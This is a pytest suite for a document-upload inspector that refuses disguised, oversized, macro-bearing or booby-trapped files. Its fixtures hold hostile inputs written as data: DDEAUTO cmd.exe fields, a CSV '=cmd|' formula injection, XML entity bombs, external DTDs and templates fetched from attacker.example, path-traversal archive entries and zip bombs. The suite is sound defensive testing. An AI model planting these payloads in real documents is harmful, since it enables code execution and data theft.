"""What is taken, what is refused, and why: by content, whatever the name says."""

import io
import re
import struct
import time
import zipfile
from pathlib import Path

import pytest
from django.utils import translation

from portal.files import inspection
from portal.files.inspection import RefusedFile
from portal.files.kinds import KINDS, kind_of_extension
from portal.files.refusals import MESSAGES
from tests.portal.files import crafted

MIB = 1024 * 1024


# Names, sizes, kinds


@pytest.mark.parametrize("extension", crafted.SOUND)
def test_sound_file_of_each_kind_is_taken(inspect, extension):
    data = crafted.SOUND[extension]

    found = inspect(f"Relevé.{extension.upper()}", data)

    claimed = kind_of_extension(extension)
    assert found.kind == claimed.kind
    assert found.media_type == claimed.media_types[extension]
    assert found.size == len(data)
    assert len(found.sha256) == 64
    assert found.warnings == ()


def test_every_kind_has_a_sound_sample():
    assert {kind_of_extension(extension).kind for extension in crafted.SOUND} == set(KINDS)


def test_only_the_diagonal_of_names_and_contents_passes(code_of):
    """Texts cannot be told from each other; nothing else passes for what it is not."""
    texts = {"txt", "csv", "md"}
    also = {(name, content) for name in texts for content in (*texts, "eml")}
    also |= {("md", "html")}

    passed = {
        (name, content)
        for name in crafted.SOUND
        for content, data in crafted.SOUND.items()
        if code_of(f"a.{name}", data) is None
    }

    assert passed == also | {(name, name) for name in crafted.SOUND}


@pytest.mark.parametrize(
    ("name", "data", "code"),
    [
        ("a.pdf", b"", "empty"),
        ("a.txt", b" \r\n\t ", "empty"),
        ("a.eml", b"     \n\n    ", "empty"),
        ("a.zip", crafted.package({"a.txt": "x"}), "archive"),
        ("a.7z", b"7z\xbc\xaf'\x1c", "archive"),
        ("a.exe", b"MZ", "extension"),
        ("a", b"x", "extension"),
        ("a.svg", b"<svg onload='x()'/>", "extension"),
        ("a.pdf.js", b"x", "extension"),
        ("a.docm", crafted.docx(), "macros"),
        ("a.docx", b"MZ\x90\0", "mismatch"),
        ("a.pdf", crafted.HTML.encode(), "mismatch"),
        ("a.txt", crafted.HTML.encode(), "mismatch"),
        ("a.txt", bytes(range(256)), "mismatch"),
        ("a.png", b"<svg xmlns='x'/>", "mismatch"),
        ("a.eml", b"Just a text without any header.\n", "mismatch"),
        ("a.html", b"no tag at all", "mismatch"),
        ("a.docx", crafted.package({"a.txt": "x"}), "mismatch"),
    ],
)
def test_wrong_names_and_empty_contents_are_refused(code_of, name, data, code):
    assert code_of(name, data) == code


def test_file_larger_than_the_limit_is_refused_before_it_is_read(inspect):
    with pytest.raises(RefusedFile) as refusal:
        inspect("a.pdf", crafted.pdf(), max_bytes=100)

    assert refusal.value.code == "too_big"


def test_limit_itself_is_allowed(inspect):
    data = crafted.pdf()

    assert inspect("a.pdf", data, max_bytes=len(data)).size == len(data)


# What the person reads


def test_every_refusal_says_why_and_what_to_do():
    for code in MESSAGES:
        message = RefusedFile(code, "détail").message
        assert "%" not in message
        assert message.count(". ") >= 1 or code == "too_many_pages", code


def test_mismatch_names_what_was_found(inspect):
    with pytest.raises(RefusedFile) as refusal, translation.override("en"):
        inspect("a.docx", crafted.pdf())

    with translation.override("en"):
        assert "PDF document" in refusal.value.message


def test_no_refusal_code_is_without_message():
    """Codes raised inside the sandbox are all known here."""
    folder = Path(inspection.__file__).parent / "parsing"
    sources = "".join(path.read_text() for path in folder.glob("*.py"))
    raised = set(re.findall(r'Refused\(\s*"(\w+)"', sources))

    assert raised <= set(MESSAGES)


# Zip containers


def _lying_about_its_size() -> bytes:
    data = bytearray(crafted.docx(crafted.paragraph("x" * 5000)))
    name = data.rfind(b"word/document.xml")
    entry = data.rfind(b"PK\x01\x02", 0, name)
    struct.pack_into("<I", data, entry + 24, 100)
    return bytes(data)


def _overlapping() -> bytes:
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", zipfile.ZipFile(io.BytesIO(crafted.docx())).read(
            "[Content_Types].xml"))  # fmt: skip
        archive.writestr("kernel", bytes(range(256)) * 40)
        kernel = archive.getinfo("kernel")
        for number in range(200):
            twin = zipfile.ZipInfo(f"twin{number}")
            for slot in ("header_offset", "CRC", "compress_size", "file_size", "compress_type"):
                setattr(twin, slot, getattr(kernel, slot))
            archive.filelist.append(twin)
            archive.NameToInfo[twin.filename] = twin
    return output.getvalue()


def _nested(levels: int) -> bytes:
    data = crafted.docx()
    for _level in range(levels):
        data = crafted.docx(more={"word/embeddings/inner.docx": data})
    return data


ENTITIES = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><x>&b;</x>'
DEFINED_ELSEWHERE = '<!DOCTYPE x SYSTEM "http://attacker.example/x.dtd"><x/>'
OLD_ODF = '<!DOCTYPE m PUBLIC "-//OpenOffice.org//DTD Manifest 1.0//EN" "Manifest.dtd"><m/>'


@pytest.mark.parametrize(
    ("name", "build", "code"),
    [
        ("a.docx", lambda: crafted.docx(more={"word/media/a.bin": bytes(60 * MIB)}), "bomb"),
        ("a.docx", lambda: crafted.docx(more={f"m/{n}": "" for n in range(10_001)}), "bomb"),
        ("a.docx", _overlapping, "bomb"),
        ("a.docx", _lying_about_its_size, "damaged"),
        ("a.docx", lambda: _nested(4), "nested"),
        ("a.docx", lambda: _nested(2), None),
        ("a.docx", lambda: crafted.docx()[:-30], "damaged"),
        ("a.docx", lambda: crafted.docx(more={"word/extra.xml": ENTITIES}), "entities"),
        (
            "a.docx",
            lambda: crafted.docx(more={"word/extra.xml": ENTITIES.encode("utf-16")}),
            "entities",
        ),
        ("a.xlsx", lambda: crafted.xlsx(more={"xl/sharedStrings.xml": ENTITIES}), "entities"),
        (
            "a.docx",
            lambda: crafted.docx(more={"word/extra.xml": DEFINED_ELSEWHERE}),
            "external_reference",
        ),
        ("a.odt", lambda: crafted.odt(more={"extra.xml": OLD_ODF}), None),
        ("a.docx", lambda: crafted.docx(more={"../../evil.txt": "x"}), "damaged"),
        ("a.odt", lambda: crafted.odt(more={"..\\..\\evil.txt": "x"}), "damaged"),
        ("a.odt", lambda: crafted.odt(more={"/etc/evil.txt": "x"}), "damaged"),
        ("a.odt", lambda: crafted.odt(more={"C:/evil.txt": "x"}), "damaged"),
        ("a.odt", lambda: crafted.odt(more={"meta.xml": ENTITIES}), "entities"),
    ],
)
def test_containers_that_inflate_or_hide_are_refused_quickly(code_of, name, build, code):
    data = build()
    started = time.monotonic()

    assert code_of(name, data) == code
    assert time.monotonic() - started < 10


# Office documents of today

REMOTE = "http://attacker.example/x"
VBA = {"word/vbaProject.bin": b"x"}


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (crafted.docx(more=VBA), "macros"),
        (crafted.docx(more={"word/embeddings/x.docx": crafted.docx(more=VBA)}), "macros"),
        (crafted.docx(links=crafted.relation("hyperlink", REMOTE, external=True)), None),
        (
            crafted.docx(links=crafted.relation("attachedTemplate", REMOTE, external=True)),
            "external_reference",
        ),
        (
            crafted.docx(links=crafted.relation("image", REMOTE, external=True)),
            "external_reference",
        ),
        (
            crafted.docx(
                links=crafted.relation("oleObject", r"\\198.51.100.7\a\b.docx", external=True)
            ),
            "external_reference",
        ),
        (
            crafted.docx(
                links=crafted.relation("attachedTemplate", "file:///C:/Modeles/a.dotx",
                                       external=True)
            ),
            None,
        ),
        (crafted.docx(links=crafted.relation("hyperlink", "javascript:x()", external=True)),
         "external_reference"),
        (crafted.docx(crafted.field("PAGE")), None),
        (crafted.docx(crafted.field('HYPERLINK "https://institution.example/"')), None),
        (crafted.docx(crafted.field(r"DDEAUTO c:\\windows\\system32\\cmd.exe", pieces=4)), "dde"),
        (crafted.docx(crafted.field("QUOTE 68 68 69 65 85 84 79 32 99 109 100")), "dde"),
        (
            crafted.docx('<w:p><w:fldSimple w:instr=" DDE cmd /c x "/></w:p>'),
            "dde",
        ),
        (crafted.docx(more={"word/header1.xml": crafted.word_part(
            crafted.field("DDE cmd x"), "hdr")}), "dde"),
        (
            crafted.docx(crafted.field(f'INCLUDEPICTURE "{REMOTE}"', pieces=3)),
            "external_reference",
        ),
        (crafted.docx(crafted.field(r'LINK Excel.Sheet "C:\\Comptes\\a.xlsx"')), None),
    ],
)  # fmt: skip
def test_word_documents(code_of, data, code):
    assert code_of("a.docx", data) == code


def test_template_on_a_server_of_the_institution_is_only_a_warning(inspect):
    link = crafted.relation("attachedTemplate", r"\\serveur\modeles\lettre.dotx", external=True)

    assert inspect("a.docx", crafted.docx(links=link)).warnings == ("local_reference",)


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (crafted.xlsx(more={"xl/macrosheets/sheet1.xml": "<x/>"}), "macros"),
        (crafted.xlsx(more={"xl/externalLinks/externalLink1.xml": "<ddeLink/>"}), "dde"),
        (crafted.xlsx(rows="<row><c><f>cmd|'/c calc'!A0</f></c></row>"), "dde"),
        (crafted.xlsx(rows="<row><c><f>SUM(A1:A3)</f></c></row>"), None),
        (crafted.xlsx(more={"xl/connections.xml": f'<c><webPr url="{REMOTE}"/></c>'}),
         "external_reference"),
    ],
)  # fmt: skip
def test_workbooks(code_of, data, code):
    assert code_of("a.xlsx", data) == code


@pytest.mark.parametrize(
    ("action", "code"),
    [("ppaction://program", "launch"), ("ppaction://macro?name=x", "macros"),
     ("ppaction://hlinkshowjump?jump=nextslide", None)],
)  # fmt: skip
def test_slides_that_act(code_of, action, code):
    slide = f'<p><a action="{action}"/></p>'

    assert code_of("a.pptx", crafted.pptx(more={"ppt/slides/slide9.xml": slide})) == code


def test_slides_are_counted(inspect):
    assert inspect("a.pptx", crafted.pptx(("Un", "Deux", "Trois"))).page_count == 3


BASIC = "<script:module {0}>{1}</script:module>"


@pytest.mark.parametrize(
    ("options", "code"),
    [
        ({"more": {"Basic/Standard/Module1.xml": BASIC.format(
            crafted.ODF_SPACES, "Sub Main\nShell x\nEnd Sub")}}, "macros"),
        ({"more": {"Basic/Standard/Module1.xml": BASIC.format(
            crafted.ODF_SPACES, "REM  *****  BASIC  *****\n\n")}}, None),
        ({"more": {"Scripts/python/x.py": "import os"}}, "macros"),
        ({"body": '<text:p><text:a xlink:href="https://institution.example/">x</text:a></text:p>'},
         None),
        ({"body": f'<draw:image xlink:href="{REMOTE}"/>'}, "external_reference"),
        ({"body": f'<text:section-source xlink:href="{REMOTE}"/>'}, "external_reference"),
        ({"body": '<draw:image xlink:href="Pictures/a.png"/>'}, None),
        ({"body": '<text:dde-connection-decl office:dde-application="cmd"/>'}, "dde"),
        ({"body": '<text:a xlink:href="vnd.sun.star.script:Standard.M.Main?language=Basic"/>'},
         "macros"),
        ({"more": {"META-INF/manifest.xml": f"<manifest:manifest {crafted.ODF_SPACES}>"
                   "<manifest:encryption-data/></manifest:manifest>"}}, "encrypted"),
    ],
)  # fmt: skip
def test_open_documents(code_of, options, code):
    assert code_of("a.odt", crafted.odt(**options)) == code


# Office documents of yesterday

WIDE = "\x13 DDEAUTO \\cmd".encode("utf-16-le")


@pytest.mark.parametrize(
    ("name", "data", "code"),
    [
        ("a.doc", crafted.doc(flags=0x0100), "encrypted"),
        ("a.doc", crafted.doc(more={"Macros/VBA/dir": b"x"}), "macros"),
        ("a.doc", crafted.doc(text=b"\x13 DDEAUTO c:\\cmd"), "dde"),
        ("a.doc", crafted.doc(text=WIDE), "dde"),
        ("a.doc", crafted.doc(text=b'\x13 INCLUDEPICTURE "http://attacker.example/x"'),
         "external_reference"),
        ("a.doc", crafted.doc(text=b"\x13 PAGE \x15 dde"), None),
        ("a.doc", crafted.doc(more={"ObjectPool/_1/\x01Ole10Native": b"\0" * 6 + b"calc.exe\0"}),
         "attachment"),
        ("a.doc", crafted.doc()[:700], "damaged"),
        ("a.xls", crafted.xls(((0x002F, bytes(6)),)), "encrypted"),
        ("a.xls", crafted.xls(((0x0085, bytes(4) + b"\0\1"),)), "macros"),
        ("a.xls", crafted.xls(more={"_VBA_PROJECT_CUR/VBA/dir": b"x"}), "macros"),
        ("a.xls", crafted.xls(((0x01AE, b"\0\0\x08\0\0cmd\x03'/c x"),)), "dde"),
        ("a.xls", crafted.xls(((0x01AE, b"\0\0\x08\0\0\x01\x03a.xls"),)), None),
        ("a.ppt", crafted.ppt(token=0xF3D1C4DF), "encrypted"),
        ("a.ppt", crafted.ppt(more=struct.pack("<HHIIII", 2, 0x0400, 12, 1, 1, 2)), "macros"),
        ("a.docx", crafted.compound({"EncryptedPackage": b"x", "EncryptionInfo": b"x"}),
         "encrypted"),
    ],
)  # fmt: skip
def test_old_office_documents(code_of, name, data, code):
    assert code_of(name, data) == code


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (rb"{\rtf1 {\object\objemb{\*\objdata 0105}}}", "embedded_object"),
        (rb"{\rtf1 {\*\template http://attacker.example/x}}", "external_reference"),
        (rb"{\rtf1 {\field{\*\fldinst {\b DDE}AUTO cmd x}}}", "dde"),
        (rb"{\rtf1 {\field{\*\fldinst HYPERLINK x}}}", None),
    ],
)
def test_rich_text(code_of, data, code):
    assert code_of("a.rtf", data) == code


# Texts, pages, images


@pytest.mark.parametrize(
    ("name", "data", "code"),
    [
        ("a.csv", b"nom;x\n=cmd|' /C calc'!A0;1\n", "dde"),
        ("a.csv", b"nom;total\n=SOMME(A1);1\n", None),
        ("a.csv", b"nom;note\n-10;a|b!\n", None),
        ("a.txt", "Été à Noël".encode("cp1252"), None),
        ("a.txt", "Été".encode("utf-16"), None),
        ("a.txt", "Un été à Noël".encode("utf-16-le"), None),
        ("a.txt", crafted.HTML.encode("utf-16-be"), "mismatch"),
        ("a.png", crafted.giant_png(), "image_too_large"),
        ("a.png", crafted.picture("PNG")[:60], "damaged"),
        ("a.jpg", crafted.picture("JPEG")[:200], "damaged"),
    ],
)
def test_texts_and_images(code_of, name, data, code):
    assert code_of(name, data) == code


def test_page_with_scripts_is_taken_and_says_that_they_go(inspect):
    page = crafted.HTML.replace("<p>", "<script>x()</script><p>")

    assert inspect("a.html", page.encode()).warnings == ("scripts_removed",)
    assert inspect("a.html", crafted.HTML.encode()).warnings == ()


# Messages


@pytest.mark.parametrize(
    ("name", "content", "code"),
    [
        ("note.pdf", crafted.pdf(), None),
        ("note.pdf", crafted.pdf(catalog={"OpenAction": crafted.script()}), "javascript"),
        ("note.docx", crafted.docx(more=VBA), "macros"),
        ("note.exe", b"MZ", "attachment"),
        ("note.pdf.js", b"x", "attachment"),
        ("note.zip", crafted.package({"a": "x"}), "attachment"),
        ("note.dat", b"MZ" + bytes(100), "attachment"),
        ("agenda.ics", b"BEGIN:VCALENDAR", None),
        ("lettre.eml", crafted.eml(attachments=(("a.docx", crafted.docx(more=VBA)),)), "macros"),
    ],
)
def test_attachments_are_held_to_the_same_rules(code_of, name, content, code):
    assert code_of("a.eml", crafted.eml(attachments=((name, content),))) == code


def test_attachments_of_outlook_messages_too(code_of):
    properties = {"0037": "Sujet", "1000": "Corps"}
    program = crafted.msg(properties, (("outil.exe", b"MZ"),))
    note = crafted.msg(properties, (("note.txt", b"Un texte." + b" " * 5000),))

    assert code_of("a.msg", program) == "attachment"
    assert code_of("a.msg", note) is None


def test_unreadable_attachment_is_only_a_warning(inspect):
    data = crafted.eml(attachments=(("note.pdf", b"not a PDF"),))

    assert inspect("a.eml", data).warnings == ("attachment_unreadable",)


def test_messages_nested_for_ever_are_refused(code_of):
    data = crafted.eml()
    for _level in range(6):
        data = crafted.eml(attachments=(("inner.eml", data),))

    assert code_of("a.eml", data) == "nested"
